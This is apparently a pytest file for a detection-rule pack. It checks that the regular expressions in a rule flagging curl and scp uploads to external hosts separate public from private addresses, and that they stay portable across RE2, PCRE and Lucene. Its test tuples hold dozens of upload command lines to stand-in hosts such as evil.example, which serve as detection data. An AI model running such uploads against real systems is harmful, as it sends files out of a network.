"""The expressions for an external destination: exact over the address space, right on hand-made lines, portable."""

from __future__ import annotations

import re
from ipaddress import IPv4Network
from random import Random
from typing import NamedTuple

import duckdb
import pytest
import volumes
from pack.pack_files import RULE_FILES, document, non_public_networks, rule_document

RULE = "proc_creation_win_transfer_tool_external_upload"
WIDER = "proc_creation_win_transfer_tool_transfer_flags"

THIRD_OCTETS = (0, 1, 2, 99, 100, 101, 112, 113, 114, 168, 255)
"""The edges of the networks that are smaller than /16, and a few more."""


class Expressions(NamedTuple):
    """The two forms of a destination."""

    url: str
    scp: str


def expressions() -> Expressions:
    url, scp = rule_document(RULE)["detection"]["selection_external"]
    return Expressions(url["CommandLine|re|i"], scp["CommandLine|re|i"])


def is_external(command_line: str) -> bool:
    return any(re.search(form, command_line, re.IGNORECASE) for form in expressions())


def private_networks() -> list[IPv4Network]:
    return [IPv4Network(network) for network in non_public_networks() if ":" not in network]


def test_private_networks_are_whole_in_their_third_octet() -> None:
    """So the fourth octet decides nothing, and one value of it is enough below."""
    assert all(network.prefixlen <= 24 for network in private_networks())


def test_python_agrees_with_the_networks_on_the_first_two_octets() -> None:
    private = bytearray(1 << 24)
    for network in private_networks():
        start = int(network.network_address) >> 8
        private[start : start + (1 << (24 - network.prefixlen))] = b"\1" * (1 << (24 - network.prefixlen))
    url, scp = (re.compile(form, re.IGNORECASE) for form in expressions())
    wrong: list[str] = []
    # RE2 tries all of them below, in a fraction of the time.
    for first_two in Random(1).sample(range(1 << 16), volumes.of(1 << 16)):
        prefix = f"{first_two >> 8}.{first_two & 255}"
        for third in THIRD_OCTETS:
            address = f"{prefix}.{third}.{(first_two + third) % 256}"
            public = not private[first_two << 8 | third]
            if (url.search(f"http://{address}/") is not None) is not public:
                wrong.append(f"URL {address}")
            if (scp.search(f" user@{address}:path") is not None) is not public:
                wrong.append(f"scp {address}")
    assert not wrong


def test_re2_agrees_with_the_networks_on_all_first_two_octets() -> None:
    """DuckDB's regular expressions are RE2, the library of Kusto. Networks and expressions meet in its SQL only.

    All third octets where the first one has networks smaller than /16 in it.
    """
    url, scp = expressions()
    connection = duckdb.connect()
    connection.execute("CREATE TABLE private (low BIGINT, high BIGINT)")
    connection.executemany(
        "INSERT INTO private VALUES (?, ?)",
        [[int(network.network_address) >> 8, int(network.broadcast_address) >> 8] for network in private_networks()],
    )
    connection.execute(
        """
        CREATE TABLE public_prefix AS
        SELECT prefix, NOT EXISTS (FROM private WHERE prefix BETWEEN low AND high) AS public
        FROM (
            SELECT first_two * 256 + third AS prefix FROM range(65536) a(first_two), (SELECT unnest($thirds) AS third)
            UNION
            SELECT first * 65536 + rest FROM (SELECT unnest([192, 198, 203]) AS first), range(65536) b(rest))
        """,
        {"thirds": list(THIRD_OCTETS)},
    )
    wrong = connection.execute(
        """
        SELECT address, public FROM (
            SELECT public, concat_ws('.', prefix // 65536, prefix // 256 % 256, prefix % 256, prefix % 251) AS address
            FROM public_prefix)
        WHERE regexp_matches('http://' || address || '/', $url, 'i') <> public
           OR regexp_matches(' user@' || address || ':path', $scp, 'i') <> public
        LIMIT 10
        """,
        {"url": url, "scp": scp},
    ).fetchall()
    assert not wrong
    assert connection.execute("SELECT count(*) FROM public_prefix").fetchone() == (
        65536 * len(THIRD_OCTETS) + 3 * 256 * (256 - len(THIRD_OCTETS)),
    )


@pytest.mark.parametrize("octet", range(256))
def test_each_place_takes_each_octet(octet: int) -> None:
    assert is_external(f"http://8.{octet}.1.1/")
    assert is_external(f"http://8.1.{octet}.1/")
    assert is_external(f"http://8.1.1.{octet}/")


EXTERNAL = (
    "curl -T a http://8.8.8.8",
    "curl -T a http://8.8.8.8/",
    "curl -T a HTTPS://8.8.8.8:8443/x",
    "curl -T a http://8.8.8.8?x",
    "curl -T a http://8.8.8.8#x",
    'curl -T a "http://8.8.8.8"',
    "curl -T a 'http://8.8.8.8' -k",
    "curl -T a http://8.8.8.8: -k",
    "curl -T a https://drop.example.com/in",
    "curl -T a https://drop.example.com./in",
    "curl -T a https://drop.example.com:443",
    "curl -T a https://DROP.EXAMPLE.COM",
    "curl -T a https://xn--bcher-kva.xn--p1ai/",
    "curl -T a https://bücher.example/",
    "curl -T a https://under_score.example/",
    "curl -T a ftp://user@files.example.com/",
    "curl -T a ftps://user:pass@files.example.com/",
    "curl -T a sftp://user:p@ss@8.8.4.4/",
    "curl -T a scp://files.example.com/in",
    "curl -T a http://10.0.0.1.evil.example/",
    "curl -T a http://10.0.0.1@evil.example/",
    "curl -T a http://a.example:80@evil.example/",
    "curl -T a http://10.evil.example/",
    "curl -T a http://{10.0.0.1,evil.example}/",
    "curl -T a http://intranet.corp/",
    "curl -T a http://host.local/",
    "curl -T a http://localhost.localdomain/",
    "curl http://10.0.0.1/ -T a http://8.8.8.8/",
    "curl http://8.8.8.8/ -T a http://10.0.0.1/",
    "curl -T a http://evil.example\\in",
    "curl -T a http://172.15.0.1/",
    "curl -T a http://172.32.0.1/",
    "curl -T a http://192.169.0.1/",
    "curl -T a http://100.128.0.1/",
    "scp a ops@files.example.com:/in",
    "scp a ops@files.example.com:",
    "scp a CORP\\ops@files.example.com:in",
    "scp a ops@corp.example@8.8.8.8:in",
    'scp a "ops@8.8.8.8:in folder"',
    "scp ops@10.0.0.1:a ops@8.8.8.8:b",
)

INTERNAL = (
    "curl -T a",
    "curl -T a http://",
    "curl -T a http://10.0.0.1",
    "curl -T a http://10.0.0.1/",
    "curl -T a http://10.0.0.1:8080/evil.example",
    "curl -T a http://10.0.0.1?to=evil.example",
    "curl -T a http://10.0.0.1#evil.example",
    "curl -T a http://10.0.0.1/me@evil.example/",
    "curl -T a http://10.0.0.1?me@evil.example",
    "curl -T a http://10.0.0.1./",
    "curl -T a http://evil.example@10.0.0.1/",
    "curl -T a http://evil.example:80@10.0.0.1/",
    "curl -T a http://evil.example:pw@10.0.0.1/",
    "curl -T a http://me@evil.example@10.0.0.1/",
    "curl -T a http://me@evil.example:443@10.0.0.1/",
    "curl -T a http://8.8.8.8@10.0.0.1/",
    "curl -T a http://8.8.8.8:80@10.0.0.1/",
    "curl -T a http://localhost/",
    "curl -T a http://localhost./",
    "curl -T a http://nexus:8081/repository/a.b.c/",
    "curl -T a http://127.0.0.1:9090/",
    "curl -T a http://169.254.169.254/",
    "curl -T a http://172.16.0.1/",
    "curl -T a http://172.31.255.255/",
    "curl -T a http://192.168.1.1/",
    "curl -T a http://100.64.0.1/",
    "curl -T a http://0.0.0.0/",
    "curl -T a http://224.0.0.1/",
    "curl -T a http://255.255.255.255/",
    "curl -T a http://8.8.8/",
    "curl -T a http://8.8.8.8.8/",
    "curl -T a http://8.8.8.256/",
    "curl -T a http://256.8.8.8/",
    "curl -T a http://08.8.8.8/",
    "curl -T a http://8.8.8.08/",
    "curl -T a http://010.8.8.8/",
    "curl -T a http://10.1/",
    "curl -T a http://0x0a.0.0.1/",
    "curl -T a http://134744072/",
    "curl -T a http://192.168.1.[1-254]/",
    "curl -T a http://[::1]:8080/",
    "curl -T a http://[::ffff:10.0.0.1]/",
    "curl -T a file://host.example/c$/a",
    "curl -T a evil.example",
    "curl -u me@corp.example -T a http://nexus/",
    "curl -F to=me@corp.example:x http://nexus/",
    "curl -H X:me@corp.example:x -T a http://nexus/",
    "scp a files.example.com",
    "scp a ops@files.example.com",
    "scp a ops@files:/in",
    "scp a ops@10.0.0.1:/in",
    "scp a ops@192.168.0.7:",
    "scp a ops@corp.example@10.0.0.1:/in",
    "scp a C:\\x.y:z",
    "scp a ops@8.8.8.8.8:/in",
    "scp a ops@8.8.8:/in",
)


@pytest.mark.parametrize("command_line", EXTERNAL)
def test_destination_is_external(command_line: str) -> None:
    assert is_external(command_line)


@pytest.mark.parametrize("command_line", INTERNAL)
def test_destination_is_internal(command_line: str) -> None:
    assert not is_external(command_line)


def test_re2_reads_the_lines_as_python_does() -> None:
    url, scp = expressions()
    rows = duckdb.execute(
        "SELECT line, regexp_matches(line, $url, 'i') OR regexp_matches(line, $scp, 'i')"
        " FROM (SELECT unnest($lines) AS line)",
        {"url": url, "scp": scp, "lines": [*EXTERNAL, *INTERNAL]},
    ).fetchall()
    assert not [line for line, external in rows if external is not is_external(line)]


def test_the_wider_rule_leaves_out_by_the_same_expressions() -> None:
    narrower, wider = (rule_document(stem)["detection"] for stem in (RULE, WIDER))
    assert wider["filter_main_external"] == narrower["selection_external"]


def regexes() -> dict[str, set[str]]:
    """Every expression of the pack, with the rules that use it."""
    found: dict[str, set[str]] = {}
    for path in RULE_FILES:
        for content in document(path).get("detection", {}).values():
            for part in content if isinstance(content, list) else [content]:
                if isinstance(part, dict):
                    for key, value in part.items():
                        if "re" in key.split("|")[1:]:
                            found.setdefault(value, set()).add(path.stem)
    return found


ATOM = r"""(?:
      [A-Za-z0-9 :/,;=%!_-]                   # a character that stands for itself in all three
    | \\[.\\]                                 # an escaped one
    | \.                                      # any
    | \[\^?(?:\\\\|[^\[\]\\&~|])+\]           # a class of characters and ranges, without set operations
    | \((?!\?) | \) | \|                      # a plain group, alternatives
    | (?:[*+?]|\{[0-9]+(?:,[0-9]*)?\})(?![?+*{])  # a greedy quantifier
)"""


def test_expressions_stay_within_what_re2_pcre_and_lucene_share() -> None:
    """Lucene matches whole values, so that it has no `$`; one that ends the expression translates, others do not."""
    common = re.compile(f"{ATOM}+" + r"(?:\$\)?)?", re.VERBOSE)
    assert len(regexes()) >= 4
    assert not [pattern for pattern in regexes() if not common.fullmatch(pattern)]


def test_expressions_fit_elasticsearchs_limit() -> None:
    """`index.max_regex_length` is 1,000, and the translation for whole values adds to the length."""
    assert not [pattern for pattern in regexes() if len(pattern) > 900]


def test_re2_accepts_every_expression() -> None:
    for pattern in regexes():
        duckdb.execute("SELECT regexp_matches('', ?)", [pattern]).fetchall()
